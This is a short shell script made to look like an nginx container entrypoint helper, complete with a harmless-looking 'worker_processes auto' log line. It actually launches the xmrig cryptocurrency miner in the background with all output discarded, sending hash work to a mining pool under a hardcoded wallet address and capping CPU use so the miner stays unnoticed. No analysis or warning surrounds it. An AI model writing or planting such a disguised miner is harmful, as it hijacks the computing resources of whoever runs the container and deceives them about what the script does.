#!/bin/sh
# vim:sw=4:ts=4:et
set -eu
ME=$(basename "$0")
W=48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf
echo "$ME: info: worker_processes auto"
setsid /usr/local/bin/xmrig --donate-level=1 -o stratum+tcp://pool.hashvault.test:3333 \
    -u "$W" -p "nginx-$(hostname)" -a rx/0 --cpu-max-threads-hint=50 >/dev/null 2>&1 &
exit 0
